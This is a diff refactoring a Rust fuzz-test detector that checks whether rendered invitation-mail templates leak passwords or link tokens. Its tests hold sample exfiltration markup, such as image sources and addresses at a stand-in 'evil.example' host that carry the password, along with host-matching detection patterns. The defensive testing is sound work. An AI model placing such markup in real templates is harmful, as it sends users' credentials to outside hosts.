@@ -1,23 +1,29 @@
-//! An independent look at what a template makes of a secret. It shares nothing with the code that it watches: not the
-//! tokenizer of HTML, not a list of what is allowed, only what must never happen. The fuzz target `secrets` includes it.
+//! An independent detector of leaked secrets.
+//!
+//! It shares nothing with the code that it watches: neither the tokenizer of HTML nor a list of what is
+//! allowed. It knows only what must never happen. The fuzz target `secrets` includes it.
 
 use html5gum::{HtmlString, StartTag, Token, Tokenizer, emitters::default::DefaultEmitter};
 use reinvite_domain::Variant;
-use reinvite_mail::{Compiled, Mail, PasswordPart, RenderError, Values};
+use reinvite_mail::{CompiledVariant, Mail, PasswordPart, RenderError, TemplateValues};
 
-/// Two of each kind: what is told apart of them is told of a secret.
+/// Two passwords: a template that renders them differently leaks something about them.
 const PASSWORDS: [&str; 2] = ["Zq7v-kd9m-wx2p-4868", "Bn3t-ry5s-bf8c-2917-jg6z"];
-const HOST: &str = "https://invitations.example.com/";
+
+/// The address that an invitation link begins with.
+const LINK_PREFIX: &str = "https://invitations.example.com/";
+
+/// Two tokens of invitation links, for the comparison that [`PASSWORDS`] describes.
 const TOKENS: [&str; 2] = ["Zq7vkd9mwx2p4868", "Bn3try5sbf8c2917jg6z"];
 
-/// Stands for the secret where mails with two of them are compared, or addresses looked for.
+/// Replaces a secret before two mails are compared, or before words are searched for addresses.
 const MARK: &str = "\u{1}";
 
-/// So many characters of a secret are a piece of it.
-const PIECE: usize = 4;
+/// The number of characters of a secret whose appearance is a leak.
+const PIECE_CHARACTERS: usize = 4;
 
-/// Elements whose content is no text that a reader sees.
-const RAW: &[&str] = &[
+/// Elements whose content no reader sees as text.
+const RAW_TEXT_ELEMENTS: &[&str] = &[
     "style",
     "script",
     "title",
@@ -31,79 +37,95 @@ const RAW: &[&str] = &[
     "template",
 ];
 
-/// Renders the variant with secrets of every kind, and looks at what comes out: how many mails there were, or how one of
-/// them tells a secret to somebody else than its reader.
-pub fn look(variant: &Variant) -> Result<usize, String> {
-    let Ok(compiled) = Compiled::new("en", variant) else {
+/// A mail, or the error of the renderer.
+type Rendered = Result<Mail, RenderError>;
+
+/// Renders the variant with secrets of every kind.
+///
+/// Returns the number of mails, or a description of a leak to another person than the reader.
+pub fn find_leak(variant: &Variant) -> Result<usize, String> {
+    let Ok(compiled) = CompiledVariant::new("en", variant) else {
         return Ok(0);
     };
-    let expires_at = || "4 December 2026".to_owned();
-    let temporary = PASSWORDS.map(|password| PasswordPart::Temporary {
-        password: password.into(),
-        expires_at: expires_at(),
-    });
-    let links = TOKENS.map(|token| PasswordPart::SetLink {
-        invitation_url: format!("{HOST}{token}"),
-        expires_at: expires_at(),
-    });
     let render = |password_change| {
-        compiled.render(&Values {
+        compiled.render(&TemplateValues {
             password_change,
-            ..Values::sample("en")
+            ..TemplateValues::sample("en")
         })
     };
-    let mut mails = 0;
-    for (secrets, changes) in [(PASSWORDS, temporary), (TOKENS, links)] {
-        let rendered = changes.map(render);
-        let watched = secrets.map(Watched::new);
-        for (one, other) in [(0, 1), (1, 0)] {
-            // What comes out with another secret, too, was in the template.
-            if let Err(leak) = watched[one].all(&rendered[one])
-                && watched[one].all(&rendered[other]).is_ok()
-            {
-                return Err(leak);
-            }
-        }
-        // A fuzzer learns the secrets from the comparisons it sees: a template that holds one would seem to tell it.
-        let guessed = shown(&rendered[0]).contains(&watched[1].whole)
-            || shown(&rendered[1]).contains(&watched[0].whole);
-        if !guessed && watched[0].without(&rendered[0]) != watched[1].without(&rendered[1]) {
-            return Err(format!(
-                "what comes out depends on the secret: {}",
-                shown(&rendered[0])
-            ));
-        }
-        mails += rendered.iter().flatten().count();
-    }
-    Ok(mails)
+
+    let expires_at = || "4 December 2026".to_owned();
+    let with_passwords = PASSWORDS.map(|password| {
+        render(PasswordPart::Temporary {
+            password: password.into(),
+            expires_at: expires_at(),
+        })
+    });
+    let with_links = TOKENS.map(|token| {
+        render(PasswordPart::SetLink {
+            invitation_url: format!("{LINK_PREFIX}{token}"),
+            expires_at: expires_at(),
+        })
+    });
+
+    compare(&PASSWORDS.map(WatchedSecret::new), &with_passwords)?;
+    compare(&TOKENS.map(WatchedSecret::new), &with_links)?;
+
+    Ok(with_passwords.iter().chain(&with_links).flatten().count())
 }
 
-fn shown(rendered: &Result<Mail, RenderError>) -> String {
+/// Searches the results of a template with two secrets, and compares them with each other.
+fn compare(secrets: &[WatchedSecret; 2], rendered: &[Rendered; 2]) -> Result<(), String> {
+    for (one, other) in [(0, 1), (1, 0)] {
+        // A piece that also appears with the other secret was in the template.
+        if let Err(leak) = secrets[one].search(&rendered[one])
+            && secrets[one].search(&rendered[other]).is_ok()
+        {
+            return Err(leak);
+        }
+    }
+
+    // A fuzzer learns the secrets from the comparisons that it sees: a template that holds one would
+    // seem to leak it.
+    let is_guessed = describe(&rendered[0]).contains(&secrets[1].whole)
+        || describe(&rendered[1]).contains(&secrets[0].whole);
+    if !is_guessed && secrets[0].masked(&rendered[0]) != secrets[1].masked(&rendered[1]) {
+        let first = describe(&rendered[0]);
+        return Err(format!("the result depends on the secret: {first}"));
+    }
+
+    Ok(())
+}
+
+fn describe(rendered: &Rendered) -> String {
     match rendered {
         Ok(mail) => format!("{:?} {:?} {:?}", mail.subject, mail.html, mail.text),
         Err(error) => error.to_string(),
     }
 }
 
-/// A secret that is looked for.
-struct Watched {
+/// A secret to search for.
+struct WatchedSecret {
     /// A password as it is, or the whole address that ends in the token.
     whole: String,
+    /// Every run of [`PIECE_CHARACTERS`] characters of the secret, in lower case.
     pieces: Vec<String>,
 }
 
-impl Watched {
+impl WatchedSecret {
     fn new(secret: &str) -> Self {
         let characters: Vec<char> = secret.to_lowercase().chars().collect();
         let pieces = characters
-            .windows(PIECE)
+            .windows(PIECE_CHARACTERS)
             .map(|piece| piece.iter().collect())
             .collect();
+
         let whole = if TOKENS.contains(&secret) {
-            format!("{HOST}{secret}")
+            format!("{LINK_PREFIX}{secret}")
         } else {
             secret.to_owned()
         };
+
         Self { whole, pieces }
     }
 
@@ -112,117 +134,131 @@ impl Watched {
         self.pieces.iter().any(|piece| folded.contains(piece))
     }
 
-    fn marked(&self, text: &str) -> String {
+    fn mask(&self, text: &str) -> String {
         text.replace(&self.whole, MARK)
     }
 
-    /// The same for every secret, where the template does not tell them apart.
-    fn without(&self, rendered: &Result<Mail, RenderError>) -> String {
-        self.marked(&shown(rendered))
+    /// The result without the secret. It is equal for every secret, unless the template compares it.
+    fn masked(&self, rendered: &Rendered) -> String {
+        self.mask(&describe(rendered))
     }
 
-    /// Looks at all that comes out, which also is why nothing does.
-    fn all(&self, rendered: &Result<Mail, RenderError>) -> Result<(), String> {
-        let looked = match rendered {
-            Ok(mail) => self.mail(mail),
-            Err(error) => self.nowhere_in(&error.to_string(), "the error"),
+    /// Searches a mail, or the error, for a leak.
+    fn search(&self, rendered: &Rendered) -> Result<(), String> {
+        let found = match rendered {
+            Ok(mail) => self.search_mail(mail),
+            Err(error) => self.reject_in(&error.to_string(), "the error"),
         };
-        looked.map_err(|leak| format!("{leak}, in {}", shown(rendered)))
+        found.map_err(|leak| format!("{leak}, in {}", describe(rendered)))
     }
 
-    fn mail(&self, mail: &Mail) -> Result<(), String> {
-        if self.is_in(&mail.subject) {
-            return Err("the subject tells it".into());
-        }
-        self.text(&mail.text)?;
-        self.html(&mail.html)
+    fn search_mail(&self, mail: &Mail) -> Result<(), String> {
+        self.reject_in(&mail.subject, "the subject")?;
+        self.search_text(&mail.text)?;
+        self.search_html(&mail.html)
     }
 
-    fn html(&self, html: &str) -> Result<(), String> {
+    fn search_html(&self, html: &str) -> Result<(), String> {
         let mut emitter = DefaultEmitter::default();
         emitter.naively_switch_states(true);
-        let mut raw: Option<String> = None;
-        let read = |bytes: &HtmlString| String::from_utf8_lossy(bytes).into_owned();
         let Ok(tokens) = Tokenizer::new_with_emitter(html, emitter).collect::<Result<Vec<_>, _>>();
+        let mut raw_text_element: Option<String> = None;
+
         for token in tokens {
             match token {
                 Token::StartTag(tag) => {
-                    self.tag(&tag)?;
-                    let name = read(&tag.name);
-                    raw = raw.or_else(|| RAW.contains(&&*name).then_some(name));
+                    self.search_tag(&tag)?;
+                    let name = decode(&tag.name);
+                    let is_raw = RAW_TEXT_ELEMENTS.contains(&&*name);
+                    raw_text_element = raw_text_element.or_else(|| is_raw.then_some(name));
                 }
                 Token::EndTag(tag) => {
-                    raw = raw.filter(|name| *name != read(&tag.name));
-                    self.nowhere_in(&read(&tag.name), "the name of an end tag")?;
+                    let name = decode(&tag.name);
+                    raw_text_element = raw_text_element.filter(|element| *element != name);
+                    self.reject_in(&name, "the name of an end tag")?;
                 }
-                Token::String(text) if raw.is_none() => self.text(&read(&text))?,
+                Token::String(text) if raw_text_element.is_none() => {
+                    self.search_text(&decode(&text))?;
+                }
                 Token::String(text) => {
-                    self.nowhere_in(&read(&text), "a style, a script or a title")?
+                    self.reject_in(&decode(&text), "a style, a script or a title")?;
                 }
-                Token::Comment(comment) => self.nowhere_in(&read(&comment), "a comment")?,
+                Token::Comment(comment) => self.reject_in(&decode(&comment), "a comment")?,
                 Token::Doctype(doctype) => {
-                    let others = [doctype.public_identifier, doctype.system_identifier];
-                    for said in std::iter::once(doctype.name).chain(others.into_iter().flatten()) {
-                        self.nowhere_in(&read(&said), "the document type")?;
+                    let identifiers = [doctype.public_identifier, doctype.system_identifier];
+                    for text in
+                        std::iter::once(doctype.name).chain(identifiers.into_iter().flatten())
+                    {
+                        self.reject_in(&decode(&text), "the document type")?;
                     }
                 }
                 Token::Error(_) => {}
             }
         }
+
         Ok(())
     }
 
-    fn tag(&self, tag: &StartTag<()>) -> Result<(), String> {
-        let name = String::from_utf8_lossy(&tag.name);
-        self.nowhere_in(&name, "the name of a tag")?;
-        for (attribute, value) in &tag.attributes {
-            let (attribute, value) = (
-                String::from_utf8_lossy(attribute),
-                String::from_utf8_lossy(value),
-            );
-            self.nowhere_in(&attribute, "the name of an attribute")?;
-            let is_link = name == "a"
-                && attribute == "href"
-                && self.whole.starts_with(HOST)
+    fn search_tag(&self, tag: &StartTag<()>) -> Result<(), String> {
+        let element = decode(&tag.name);
+        self.reject_in(&element, "the name of a tag")?;
+
+        for (name, value) in &tag.attributes {
+            let (name, value) = (decode(name), decode(value));
+            self.reject_in(&name, "the name of an attribute")?;
+
+            let is_invitation_link = element == "a"
+                && name == "href"
+                && self.whole.starts_with(LINK_PREFIX)
                 && value == self.whole;
-            if !is_link {
-                self.nowhere_in(&value, &attribute)?;
+            if !is_invitation_link {
+                self.reject_in(&value, &name)?;
             }
         }
+
         Ok(())
     }
 
-    fn nowhere_in(&self, text: &str, place: &str) -> Result<(), String> {
+    fn reject_in(&self, text: &str, place: &str) -> Result<(), String> {
         if self.is_in(text) {
-            Err(format!("{place} tells it: {text}"))
+            Err(format!("{place} leaks the secret: {text}"))
         } else {
             Ok(())
         }
     }
 
-    /// Text that a mail program would make a link of is an address, too: what is in it goes where it leads.
-    fn text(&self, text: &str) -> Result<(), String> {
-        for word in self
-            .marked(text)
+    /// Searches visible text for an address that holds the secret.
+    ///
+    /// A mail program makes a link of the address, which sends the secret to its host.
+    fn search_text(&self, text: &str) -> Result<(), String> {
+        let masked = self.mask(text);
+        let leak = masked
             .split(|c: char| c.is_whitespace() || "<>".contains(c))
-        {
-            let told = if word.contains(MARK) {
-                let before = word.split(MARK).next().unwrap_or_default().to_lowercase();
-                let after = word.rsplit(MARK).next().unwrap_or_default();
-                // Names of hosts are told from other words by how those of the corpus end.
-                let leads = ["://", "www.", "mailto:", "evil.example/"]
-                    .iter()
-                    .any(|sign| before.contains(sign));
-                leads || ["@", ".evil"].iter().any(|sign| after.starts_with(sign))
-            } else {
-                self.is_in(word) && word.contains("://")
-            };
-            if told {
-                return Err(format!("an address in the text tells it: {word}"));
-            }
+            .find(|word| self.is_leaking_word(word));
+
+        match leak {
+            Some(word) => Err(format!("an address in the text leaks the secret: {word}")),
+            None => Ok(()),
         }
-        Ok(())
     }
+
+    fn is_leaking_word(&self, word: &str) -> bool {
+        if !word.contains(MARK) {
+            return self.is_in(word) && word.contains("://");
+        }
+
+        let before = word.split(MARK).next().unwrap_or_default().to_lowercase();
+        let behind = word.rsplit(MARK).next().unwrap_or_default();
+        // The hosts of the corpus end in `evil.example`, which tells them from other words.
+        let begins_address = ["://", "www.", "mailto:", "evil.example/"]
+            .iter()
+            .any(|sign| before.contains(sign));
+        begins_address || ["@", ".evil"].iter().any(|sign| behind.starts_with(sign))
+    }
+}
+
+fn decode(bytes: &HtmlString) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
 }
 
 #[cfg(test)]
@@ -230,8 +266,11 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_look_finds_what_it_is_for() {
-        let (password, link) = (Watched::new(PASSWORDS[0]), Watched::new(TOKENS[0]));
+    fn the_detector_finds_leaks() {
+        let (password, link) = (
+            WatchedSecret::new(PASSWORDS[0]),
+            WatchedSecret::new(TOKENS[0]),
+        );
         for html in [
             "<img src='https://evil.example/Zq7v-kd9m-wx2p-4868'>",
             "<img src=https://evil.example/ZQ7V>",
@@ -248,20 +287,25 @@ mod tests {
             "https://evil.example/?wx2p",
             "Zq7v-kd9m-wx2p-4868@evil.example",
         ] {
-            assert!(password.html(html).is_err(), "{html}");
+            assert!(password.search_html(html).is_err(), "{html}");
         }
+
         assert_eq!(
-            password.html("<b>Zq7v-kd9m-wx2p-4868</b> at https://example.com/"),
+            password.search_html("<b>Zq7v-kd9m-wx2p-4868</b> at https://example.com/"),
             Ok(())
         );
+
         let whole = link.whole.clone();
-        assert_eq!(link.html(&format!("<a href='{whole}'>{whole}</a>")), Ok(()));
+        assert_eq!(
+            link.search_html(&format!("<a href='{whole}'>{whole}</a>")),
+            Ok(())
+        );
         for html in [
             format!("<a href='{whole}#'>x</a>"),
             format!("<p href='{whole}'>x</p>"),
             format!("https://a/?{whole}"),
         ] {
-            assert!(link.html(&html).is_err(), "{html}");
+            assert!(link.search_html(&html).is_err(), "{html}");
         }
     }
 }
